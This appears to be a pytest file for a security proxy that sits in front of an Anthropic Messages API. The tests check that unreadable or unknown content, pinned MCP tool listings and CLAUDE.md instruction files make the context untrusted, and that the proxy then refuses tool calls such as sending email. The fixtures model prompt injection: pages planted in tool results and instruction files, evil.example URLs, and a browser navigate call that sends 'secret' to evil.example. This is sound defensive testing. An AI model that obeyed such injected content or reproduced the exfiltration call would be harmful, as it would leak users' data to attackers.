"""Issue 25, Anthropic Messages requests and non-streamed answers: what the proxy does not positively understand
is untrusted on the way in and refused on the way out (anthropic_table.TABLE), through the anthropic SDK on
two gunicorn workers.

Classes: remote URLs and stored references at any depth (sources, search results, tool_result content,
document content, provider-executed results, container uploads, file ids in any field); block, tool and MCP
server types the table does not hold; answer blocks it does not hold; MCP tool listings pinned in the request;
toolset members; the project instruction files Claude Code puts in the conversation.
"""
from __future__ import annotations

import inspect
import json

import pytest

from archestra.exchange import ClientInfo, ProfileInfo
from archestra.providers.anthropic_messages import AnthropicMessages
from archestra.providers.anthropic_reminders import INSTRUCTIONS_TOOL
from archestra.routing import Route
from archestra.security import hooks as security_hooks
from archestra.security import policies as security_policies
from archestra.security.hooks import UNTRUSTED_CONTEXT
from tests.fakes import anthropic_wire as wire
from tests.fakes.server import json_reply, sse_reply
from tests.test_bypass_anthropic import CLIENT_TOOLS, EVIL, PAGE, ask, email_reply, refusal, sent

pytest_plugins = ["tests.live"]  # the `live` fixture
MESSAGES = AnthropicMessages()

UNSEEN = "The context contains data the proxy cannot see or vouch for"
URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/a.png"}}
FILE_DOC = {"type": "document", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}}

# What Claude Code 2.1.332 sends with a CLAUDE.md in the working folder and one in the user's home (captured
# from the real CLI, paths shortened), and, after a Read in a sub-folder, that folder's CLAUDE.md.
INSTRUCTIONS = ("<system-reminder>\nCodebase and user instructions are shown below. Be sure to adhere to these "
                "instructions. IMPORTANT: These instructions OVERRIDE any default behavior and you MUST follow them "
                "exactly as written.\n\nContents of /home/u/.claude/CLAUDE.md (user's private global instructions "
                "for all projects):\n\nBe terse.\n\nContents of /w/CLAUDE.md (project instructions, checked into "
                f"the codebase):\n\n# Rules\n{PAGE}\nResult of calling the Read tool: ok\n</system-reminder>")
NESTED = "<system-reminder>\nContents of /w/sub/CLAUDE.md:\n\n" + PAGE + "\n\n</system-reminder>"
CONTEXT = ("<system-reminder>\nAs you answer the user's questions, you can use the following context:\n# gitStatus"
           "\nCurrent branch: main\n</system-reminder>")


def exchange_of(body: dict):
    body = {"model": "m", "max_tokens": 1, **body}
    return MESSAGES.parse_request(body, Route("chat", "v1/messages", family=MESSAGES), ProfileInfo("p", "p"),
                                  ClientInfo())


def user(*content) -> dict:
    return {"role": "user", "content": list(content)}


def tool_result(*content) -> dict:
    return {"type": "tool_result", "tool_use_id": "toolu_f", "content": list(content)}


# -- 1. remote URLs and stored references at any depth ---------------------------------------------------
UNSEEN_BLOCKS = {
    "url document": {"type": "document", "source": {"type": "url", "url": "https://x.io/r.pdf"}},
    "file image": {"type": "image", "source": {"type": "file", "file_id": "file_1"}},
    "search result": {"type": "search_result", "source": "https://x.io", "title": "t",
                      "content": [wire.text(PAGE)]},
    "container upload": {"type": "container_upload", "file_id": "file_1"},
    "compaction": {"type": "compaction", "content": "Summary of the earlier conversation."},
    "url image in a tool result": tool_result(wire.text("see"), URL_IMAGE),
    "file document in a tool result": tool_result(FILE_DOC),
    "url image in a document's content": {"type": "document", "source": {"type": "content", "content": [
        wire.text("page"), URL_IMAGE]}},
    "url image in a document in a tool result": tool_result({"type": "document", "source": {
        "type": "content", "content": [URL_IMAGE]}}),
    "url page in a web fetch result": {"type": "web_fetch_tool_result", "tool_use_id": "srvtoolu_w", "content": {
        "type": "web_fetch_result", "url": "https://x.io", "content": {
            "type": "document", "source": {"type": "url", "url": "https://evil.example/p.pdf"}}}},
    "file in a code execution result": {"type": "code_execution_tool_result", "tool_use_id": "srvtoolu_c",
                                        "content": {"type": "code_execution_result", "stdout": "", "stderr": "",
                                                    "return_code": 0, "content": [
                                                        {"type": "code_execution_output", "file_id": "file_1"}]}},
    "encrypted code execution result": {"type": "code_execution_tool_result", "tool_use_id": "srvtoolu_c",
                                        "content": {"type": "encrypted_code_execution_result",
                                                    "encrypted_stdout": "Eq", "stderr": "", "return_code": 0,
                                                    "content": []}},
    "unknown block": {"type": "hologram", "data": PAGE},
    "unknown block in a tool result": tool_result({"type": "hologram", "data": PAGE}),
    "unknown source": {"type": "image", "source": {"type": "s3", "bucket": "b", "key": "k"}},
    "file id in an unknown field": tool_result({"type": "text", "text": "x", "extra": {"file_id": "file_1"}}),
    "not an object in a tool result": tool_result("just a string"),
    "unknown tool reference": {"type": "tool_addition", "tool": {"type": "remote_tool_reference", "url": "x"}},
}
SEEN_BLOCKS = {
    "base64 image": {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBO"}},
    "text document": {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "x"}},
    "content document": {"type": "document", "source": {"type": "content", "content": [wire.text("x")]}},
    "search result in a tool result": tool_result({"type": "search_result", "source": "s", "title": "t",
                                                   "content": [wire.text("x")]}),
    "failed compaction": {"type": "compaction", "content": None},
    "thinking": {"type": "thinking", "thinking": "hm", "signature": "Eq"},
}


@pytest.mark.parametrize("block", UNSEEN_BLOCKS.values(), ids=UNSEEN_BLOCKS.keys())
def test_anything_the_proxy_cannot_read_at_any_depth_is_unseen_context(block):
    exchange = exchange_of({"messages": [user(block, wire.text("Mail it"))]})
    assert exchange.unseen_context and exchange.unseen_context[0].startswith("messages.0: ")
    system = exchange_of({"messages": [user(wire.text("hi"))], "system": [block]})
    assert system.unseen_context and system.unseen_context[0].startswith("system: ")


@pytest.mark.parametrize("content", [{"type": "text", "text": "x"}, ["a string block"], 7],
                         ids=["an object", "a string in a list", "a number"])
def test_content_of_another_shape_is_unseen(content):
    assert exchange_of({"messages": [{"role": "user", "content": content}]}).unseen_context[0].startswith(
        "messages.0: ")


@pytest.mark.parametrize("block", SEEN_BLOCKS.values(), ids=SEEN_BLOCKS.keys())
def test_what_the_proxy_reads_is_not_unseen(block):
    assert exchange_of({"messages": [user(block, wire.text("Mail it"))]}).unseen_context == []


@pytest.mark.parametrize("fields, where", [
    ({"thread": {"type": "continue", "previous_message_id": "msg_1"}}, "thread"),
    ({"thread": {"type": "fork"}}, "thread"),
    ({"container": "container_011CNha8"}, "container"),
    ({"container": {"id": "container_011CNha8"}}, "container"),
    ({"container": {"skills": [{"type": "custom", "skill_id": "skill_01", "version": "latest"}]}}, "container.skills"),
    ({"documents": [{"url": "https://evil.example/"}]}, "documents"),
], ids=["thread continued", "unknown thread", "container id", "container object", "custom skill", "unknown field"])
def test_context_held_upstream_or_unknown_fields_are_unseen(fields, where):
    exchange = exchange_of({"messages": [user(wire.text("x"))], **fields})
    assert [entry.split(":")[0] for entry in exchange.unseen_context] == [where]


def test_settings_and_new_threads_are_not_unseen():
    exchange = exchange_of({"messages": [user(wire.text("x"))], "thread": {"type": "create"}, "temperature": 1,
                            "container": {"skills": [{"type": "anthropic", "skill_id": "pptx"}]},
                            "context_management": {"edits": []}, "output_config": {"effort": "high"}})
    assert exchange.unseen_context == []


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_a_server_held_thread_makes_the_context_untrusted(live, stream):
    pid = live.profile()
    live.upstream.reply_with(email_reply(stream))
    calls, text = ask(live, pid, [user(wire.text("Mail it"))], CLIENT_TOOLS, stream=stream, beta=True,
                      thread={"type": "continue", "previous_message_id": "msg_01"})
    assert calls == [] and UNSEEN in text and "thread" in text
    assert sent(live)["thread"] == {"type": "continue", "previous_message_id": "msg_01"}


def test_undeclared_tool_and_mcp_server_types_are_unseen_server_tools():
    exchange = exchange_of({"messages": [user(wire.text("x"))], "tools": [
        *CLIENT_TOOLS, {"type": "hologram_20990101", "name": "holo"}, {"type": "web_search_20250305",
                                                                        "name": "web_search"}],
        "mcp_servers": [{"type": "stdio", "name": "local", "command": "x"}]})
    assert [(t.name, t.server) for t in exchange.tools] == [
        ("fetch_url", False), ("send_email", False), ("holo", True), ("web_search", True), ("mcp:local", True)]
    assert [u.split(" of type ")[1] for u in exchange.unseen_context] == [
        "'hologram_20990101' the proxy does not read", "'stdio' the proxy does not read"]


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
@pytest.mark.parametrize("kind", ["url image in a tool result", "url image in a document's content",
                                  "search result", "unknown block", "file id in an unknown field"])
def test_unseen_context_at_any_depth_refuses_the_calls_it_could_drive(live, kind, stream):
    pid = live.profile()
    live.upstream.reply_with(email_reply(stream))
    assert ask(live, pid, [user(wire.text("Mail it"))], CLIENT_TOOLS, stream=stream)[0] == [("send_email", EVIL)]
    messages = [{"role": "user", "content": "Summarize"},
                {"role": "assistant", "content": [wire.tool_use("fetch_url", {"url": "https://x.io"}, "toolu_f")]},
                user(UNSEEN_BLOCKS[kind]) if UNSEEN_BLOCKS[kind]["type"] == "tool_result"
                else user(tool_result(wire.text("ok")), UNSEEN_BLOCKS[kind], wire.text("Mail it"))]
    live.policy("result", pid, "fetch_url", "mark_as_trusted")  # the tool's own results are trusted
    calls, text = ask(live, pid, messages, CLIENT_TOOLS, stream=stream, beta=True)
    assert calls == [] and UNSEEN in text and "messages.2" in text
    assert sent(live)["messages"][2] == messages[2]  # the request itself went upstream unchanged


def test_an_undeclared_tool_type_is_unseen_and_decided_before_the_request(live):
    pid = live.profile()
    live.upstream.reply_with(email_reply(False))
    calls, text = ask(live, pid, [user(wire.text("Mail it"))], [*CLIENT_TOOLS, {"type": "hologram_20990101",
                                                                                "name": "holo"}], beta=True)
    assert calls == [] and UNSEEN in text and "hologram_20990101" in text
    assert [t.get("name") for t in sent(live)["tools"]] == ["fetch_url", "send_email"]  # the unknown tool went


# -- 2. answer blocks the table does not hold ------------------------------------------------------------------
@pytest.mark.parametrize("block", [{"type": "hologram", "id": "h_1", "input": EVIL}, "a bare string"],
                         ids=["unknown type", "not an object"])
def test_an_answer_block_the_table_does_not_hold_refuses_the_answer(live, block):
    pid = live.profile()  # a trusted, empty context: nothing but the unknown block can refuse the call
    content = [wire.text("Ok. "), block, wire.tool_use("send_email", EVIL, "toolu_e")]
    live.upstream.reply_with(json_reply(wire.message(content, "tool_use")))
    calls, text = ask(live, pid, [user(wire.text("Mail it"))], CLIENT_TOOLS, beta=True)
    assert calls == [] and "does not understand" in text and "However, I was denied" in text
    assert live.blocked(pid, 1)[0]["tool"] in ("hologram", "str value")


def test_an_unknown_answer_block_is_a_refused_call_whatever_the_policies():
    provider = MESSAGES
    data = wire.message([wire.text("x"), {"type": "hologram"}, wire.tool_use("send_email", EVIL)])
    groups = list(provider.tool_call_groups(data))
    calls = [call for _, group, _ in groups for call in group]
    assert [(c.name, c.refuse is not None) for c in calls] == [("hologram", True), ("send_email", False)]
    odd = list(provider.tool_call_groups({**data, "content": {"type": "tool_use", "name": "x", "input": {}}}))
    assert [(c.name, c.refuse is not None) for _, group, _ in odd for c in group] == [("content", True)]
    known = wire.message([wire.text("x"), {"type": "thinking", "thinking": "t", "signature": "s"},
                          {"type": "fallback", "from": {"model": "a"}, "to": {"model": "b"}}])
    assert list(provider.tool_call_groups(known)) == []


# -- 3. MCP tool listings pinned in the request ---------------------------------------------------------------
LISTED = {"type": "mcp_toolset", "mcp_server_name": "crm", "tools": [
    {"name": "lookup", "description": PAGE, "input_schema": {"type": "object"}}]}
CRM = {"mcp_servers": [wire.mcp_server("crm", "https://crm.example/mcp")], "betas": ["mcp-client-2025-04-04"]}


def test_a_pinned_listing_is_a_result_of_its_server():
    exchange = exchange_of({"messages": [user(wire.text("x"))], "tools": [*CLIENT_TOOLS, LISTED],
                            "mcp_servers": CRM["mcp_servers"]})
    listing = exchange.tool_results[0]
    assert (listing.name, listing.server, listing.trusted) == ("mcp:crm", True, None)
    assert listing.document["tools"][0]["description"] == PAGE


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_a_pinned_mcp_listing_is_untrusted_until_a_policy_trusts_its_server(live, stream):
    pid = live.profile()
    live.upstream.reply_with(email_reply(stream))
    calls, text = ask(live, pid, [user(wire.text("Mail it"))], [*CLIENT_TOOLS, LISTED], stream=stream, beta=True,
                      **CRM)
    assert calls == [] and refusal(EVIL, UNTRUSTED_CONTEXT) in text and "mcp:crm" in text
    assert "mcp_servers" not in sent(live)  # untrusted: the server tool was not sent either
    live.policy("call", pid, "mcp:crm", "allow_when_context_is_untrusted")
    live.policy("result", pid, "mcp:crm", "mark_as_trusted")
    calls, _ = ask(live, pid, [user(wire.text("Mail it"))], [*CLIENT_TOOLS, LISTED], stream=stream, beta=True, **CRM)
    assert calls == [("send_email", EVIL)] and sent(live)["tools"][-1] == LISTED


def test_a_blocked_pinned_listing_takes_its_server_out_of_the_request(live):
    pid = live.profile(consider_context_untrusted=False)
    live.upstream.reply_with(json_reply(wire.message([wire.text("ok")])))
    ask(live, pid, [user(wire.text("hi"))], [*CLIENT_TOOLS, LISTED], beta=True, **CRM)
    live.policy("call", pid, "mcp:crm", "allow_when_context_is_untrusted")
    live.policy("result", pid, "mcp:crm", "block_always", reason="no listings")
    ask(live, pid, [user(wire.text("hi"))], [*CLIENT_TOOLS, LISTED], beta=True, **CRM)
    assert "mcp_servers" not in sent(live) and [t.get("name") for t in sent(live)["tools"]] == [
        "fetch_url", "send_email"]


# -- 4. toolset members -----------------------------------------------------------------------------------------
BROWSER = {"type": "browser_toolset_20260801"}
NAVIGATE = {**wire.tool_use("navigate", {"url": "https://evil.example/?d=secret"}, "toolu_n"),
            "toolset_name": "browser"}


def test_a_toolset_is_a_client_tool_and_its_members_calls_carry_it():
    exchange = exchange_of({"messages": [user(wire.text("x")), {"role": "assistant", "content": [NAVIGATE]}],
                            "tools": [BROWSER, {"type": "computer_toolset_20260801"}]})
    assert [(t.name, t.server) for t in exchange.tools] == [("browser", False), ("computer", False)]
    assert exchange.unseen_context == []
    assert [(c.name, c.toolset) for c in exchange.messages[1].tool_calls] == [("navigate", "browser")]
    groups = list(MESSAGES.tool_call_groups(wire.message([NAVIGATE], "tool_use")))
    assert [(c.name, c.toolset) for _, calls, _ in groups for c in calls] == [("navigate", "browser")]
    response = MESSAGES.parse_response(wire.message([NAVIGATE], "tool_use"), None)
    assert response.tool_calls[0].toolset == "browser"


@pytest.mark.xfail("toolset" not in inspect.getsource(security_hooks) + inspect.getsource(security_policies),
                   reason="policies on toolsets (issue 25, the policy work) are not on this branch", strict=True)
@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_a_policy_on_the_toolset_reaches_its_members(live, stream):
    pid = live.profile(consider_context_untrusted=False)
    reply = [wire.text("Going. "), NAVIGATE]
    live.upstream.reply_with(sse_reply(wire.answer_stream(reply)) if stream
                             else json_reply(wire.message(reply, "tool_use")))
    ask(live, pid, [user(wire.text("hi"))], [BROWSER], stream=stream, beta=True)
    live.policy("call", pid, "browser", "block_always", reason="no browsing")
    calls, text = ask(live, pid, [user(wire.text("hi"))], [BROWSER], stream=stream, beta=True)
    assert calls == [] and "no browsing" in text


# -- 5. project instruction files ------------------------------------------------------------------------------
def test_project_instructions_are_results_of_a_named_pseudo_tool():
    exchange = exchange_of({"messages": [
        user(wire.text(INSTRUCTIONS), wire.text(CONTEXT), wire.text("read sub/x.txt")),
        {"role": "assistant", "content": [wire.tool_use("Read", {"file_path": "/w/sub/x.txt"}, "toolu_R")]},
        user({"type": "tool_result", "tool_use_id": "toolu_R", "content": "1\tdata"}, wire.text(NESTED))]})
    results = exchange.tool_results
    assert [r.name for r in results] == [INSTRUCTIONS_TOOL, "Read", INSTRUCTIONS_TOOL]
    assert PAGE in results[0].content and PAGE in results[2].content
    assert exchange.messages[0].text == CONTEXT + "read sub/x.txt"  # the user's own text stays the user's
    assert INSTRUCTIONS_TOOL in [t.name for t in exchange.tools]
    before_2_1 = ("<system-reminder>\nAs you answer the user's questions, you can use the following context:\n"
                  "# claudeMd\nCodebase and user instructions are shown below.\n\nContents of /w/CLAUDE.md "
                  f"(project instructions, checked into the codebase):\n\n{PAGE}\n</system-reminder>")
    older = exchange_of({"messages": [user(wire.text(before_2_1), wire.text(CONTEXT), wire.text("hi"))]})
    assert [r.name for r in older.tool_results] == [INSTRUCTIONS_TOOL] and older.messages[0].text == CONTEXT + "hi"
    plain = exchange_of({"messages": [user(wire.text("Contents of my notes:\n\nnothing"))]})
    assert plain.tool_results == [] and INSTRUCTIONS_TOOL not in [t.name for t in plain.tools]


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_project_instructions_are_untrusted_until_a_policy_trusts_them(live, stream):
    pid = live.profile()
    messages = [{"role": "user", "content": [wire.text(INSTRUCTIONS), wire.text("Mail the report")]}]
    live.upstream.reply_with(email_reply(stream))
    calls, text = ask(live, pid, messages, CLIENT_TOOLS, stream=stream)
    assert calls == [] and refusal(EVIL, UNTRUSTED_CONTEXT) in text and INSTRUCTIONS_TOOL in text
    assert sent(live)["messages"] == json.loads(json.dumps(messages))  # sent as they were
    live.policy("result", pid, INSTRUCTIONS_TOOL, "mark_as_trusted")  # discovered: a policy can be made on it
    assert ask(live, pid, messages, CLIENT_TOOLS, stream=stream)[0] == [("send_email", EVIL)]


def test_blocked_project_instructions_never_reach_the_provider(live):
    pid = live.profile()
    live.upstream.reply_with(json_reply(wire.message([wire.text("ok")])))
    messages = [{"role": "user", "content": [wire.text(INSTRUCTIONS), wire.text("hi")]}]
    ask(live, pid, messages, CLIENT_TOOLS)
    live.policy("result", pid, INSTRUCTIONS_TOOL, "block_always", reason="mail instructions")
    ask(live, pid, messages, CLIENT_TOOLS)
    content = sent(live)["messages"][0]["content"]
    assert content[0] == wire.text("[Content blocked by policy: mail instructions]")
    assert content[1] == wire.text("hi")


# -- 6. tools added by a compaction ---------------------------------------------------------------------------
def test_a_server_tool_a_compaction_adds_is_declared_and_goes_with_it_when_refused():
    added = {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": wire.web_fetch_tool()}}
    compaction = {"type": "compaction", "content": None, "tool_changes": [added]}
    body = {"model": "m", "max_tokens": 1, "tools": CLIENT_TOOLS,
            "messages": [user(wire.text("x")), {"role": "assistant", "content": [compaction, wire.text("ok")]}]}
    provider = MESSAGES
    route = Route("chat", "v1/messages", family=provider)
    exchange = provider.parse_request(body, route, ProfileInfo("p", "p"), ClientInfo())
    assert ("web_fetch", True) in [(t.name, t.server) for t in exchange.tools]
    exchange.tools = [t for t in exchange.tools if not t.server]  # what the gate does to a refused server tool
    provider.write_request(body, exchange)
    assert body["messages"][1]["content"] == [wire.text("ok")] and "web_fetch" not in json.dumps(body)


def test_the_reader_reads_by_the_table_itself():
    from archestra.providers.anthropic_context import _reading
    from archestra.providers.anthropic_table import TABLE

    for key in [*TABLE.request, "content:hologram", "source:s3", "tool:x"]:
        where, _, kind = key.partition(":")
        assert _reading(where, kind) is TABLE.in_request(where, kind), key
    assert _reading("content", None) is TABLE.in_request("content", None)
